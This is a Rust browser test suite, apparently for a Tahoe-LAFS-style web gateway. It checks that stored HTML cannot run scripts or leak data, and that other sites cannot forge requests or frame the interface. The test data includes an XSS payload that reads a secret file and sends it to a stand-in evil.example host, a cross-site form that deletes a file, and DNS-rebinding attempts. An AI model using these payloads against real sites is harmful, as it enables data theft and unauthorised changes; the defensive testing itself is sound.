//! What others may try: a script in a file (Tahoe-LAFS's ticket 615), its way out by what browsers
//! tell (127), and pages of other sites.

use anyhow::{Result, ensure};
use browser::StrangeSite;
use serde_json::json;

use super::Place;

/// Clears away what the browser says of what it refused.
fn refused(place: &Place) -> Result<Vec<String>> {
    place.browser.complaints()
}

pub(super) fn script_in_a_file(place: &mut Place) -> Result<()> {
    let site = StrangeSite::serve("<p>thanks</p>".to_owned())?;
    let out = site.at("evil.example");
    let folder = place.grid.folder()?;
    let secret = place.grid.put(&folder, "secret.txt", b"the secret")?;
    let page = format!(
        "<!doctype html><title>plain</title><p id=p>words</p><script>\
         document.title = 'ran'; \
         fetch('/uri/{secret}').then((r) => r.text()).then((t) => {{ document.title = t; \
         location = '{out}stolen?' + encodeURIComponent(t + location.href); }});\
         </script><img src='{out}picture' onerror=\"document.title = 'ran'\">\
         <iframe src='/ui/'></iframe><link rel=stylesheet href='{out}style'>\
         <form id=f action='/uri?t=mkdir' method=post><button id=b>x</button></form>\
         <a id=a href='{out}link'>a link</a>"
    );
    place.grid.put(&folder, "page.html", page.as_bytes())?;
    let browser = &place.browser;
    let path = format!("/uri/{}/page.html", folder.replace(':', "%3A"));
    for at in [path.clone(), "/ui/open".to_owned() + path.trim_start_matches("/uri")] {
        browser.go(&place.grid.at(&at))?;
        if at.starts_with("/ui/") {
            let link = browser.run("return document.querySelector('a[target=_blank]').href", ())?;
            browser.go(link.as_str().unwrap_or_default())?;
        }
        ensure!(browser.title()? == "plain", "the script ran: {}", browser.title()?);
        let frames = browser.source()?;
        ensure!(frames.contains("words"), "the page itself is shown");
    }
    refused(place)?;
    ensure!(site.heard().is_empty(), "somebody else was asked: {}", site.heard());
    // A link is followed when somebody clicks on it, and tells nothing of where it was.
    browser.go(&place.grid.at(&path))?;
    browser.click_now("#a")?;
    browser.wait("document.body.textContent.includes('thanks')")?;
    let heard = site.heard();
    ensure!(heard.contains("GET /link"), "the link leads there");
    // The browser asks for the site's own icon, and names the site's own page.
    let own = format!("Referer: {out}");
    ensure!(!heard.replace(&own, "").contains("Referer") && !heard.contains("URI"), "{heard}");
    let referrer = browser.run("return document.referrer + (window.opener ? 'opener' : '')", ())?;
    ensure!(referrer == "", "the page that it leads to knows where from: {referrer}");
    // Nor does the interface's own page tell, and it cannot be put in a frame.
    as_a_script(place, &secret)?;
    refused(place).map(drop)
}

/// Whoever gets a script of theirs named in a page of ours still cannot have a file run.
fn as_a_script(place: &Place, secret: &str) -> Result<()> {
    let script = place.grid.web().call(
        "PUT",
        "/uri",
        b"document.title = 'ran'; // long enough to be stored",
    )?;
    place.browser.go(&place.grid.at("/ui/"))?;
    let failed = place.browser.run(
        "const script = document.createElement('script'); \
         script.src = `/named/${arg}/@@named=/x.js`; \
         return await new Promise((done) => { script.onload = () => done(false); \
         script.onerror = () => done(true); document.head.append(script); })",
        script,
    )?;
    ensure!(failed == true && place.browser.title()? != "ran", "a file was run as a script");
    let inline = place.browser.run(
        "const script = document.createElement('script'); script.textContent = 'window.ran = 1'; \
         document.head.append(script); return window.ran ?? 0",
        (),
    )?;
    ensure!(inline == 0, "a script in the page itself runs");
    let _ = secret;
    Ok(())
}

pub(super) fn another_site(place: &mut Place) -> Result<()> {
    let folder = place.grid.folder()?;
    place.grid.put(&folder, "kept.txt", b"kept")?;
    let gateway = place.grid.at("");
    let site = StrangeSite::serve(format!(
        "<!doctype html><meta charset=utf-8><title>strange</title>\
         <form id=f action='{gateway}/uri/{folder}?t=unlink&amp;name=kept.txt' method=post>\
         <button id=b>win</button></form>\
         <iframe id=i src='{gateway}/ui/'></iframe>"
    ))?;
    let browser = &place.browser;
    // Another site, and another port of the same host, which is no other site to browsers.
    for name in ["evil.example", "127.0.0.1"] {
        browser.go(&site.at(name))?;
        let tried = browser.run(
            "const out = {}; const [gateway, folder] = arg; \
             const tell = async (name, work) => { try { out[name] = await work(); } \
               catch (error) { out[name] = 'refused'; } }; \
             await tell('post', () => fetch(`${gateway}/uri/${folder}?t=unlink&name=kept.txt`, \
               { method: 'POST', mode: 'no-cors' }).then((r) => r.type)); \
             await tell('put', () => fetch(`${gateway}/uri`, { method: 'PUT', body: 'x' }) \
               .then((r) => r.text())); \
             await tell('read', () => fetch(`${gateway}/?t=json`).then((r) => r.text())); \
             return out",
            json!([gateway, folder]),
        )?;
        ensure!(tried["put"] == "refused" && tried["read"] == "refused", "{tried}");
        let framed = browser.run(
            "try { return document.querySelector('#i').contentDocument?.body?.innerText ?? '' } \
             catch { return '' }",
            (),
        )?;
        ensure!(!framed.as_str().unwrap_or_default().contains("Your files"), "it is in a frame");
        browser.click("#b")?;
        browser.wait("document.body.textContent.includes('another site asked your browser')")?;
        let left = place.grid.web().call("GET", &format!("/uri/{folder}/kept.txt"), b"")?;
        ensure!(left == "kept", "a page of another site deleted a file");
    }
    // A name that its owner made to point here (DNS rebinding): the browser takes it for one site.
    let rebound = gateway.replace("127.0.0.1", "evil.example");
    browser.go(&format!("{rebound}/ui/"))?;
    let made =
        browser.run("return (await fetch('/uri?t=mkdir', { method: 'POST' })).status", ())?;
    ensure!(made == 403, "it is {made}");
    refused(place).map(drop)
}
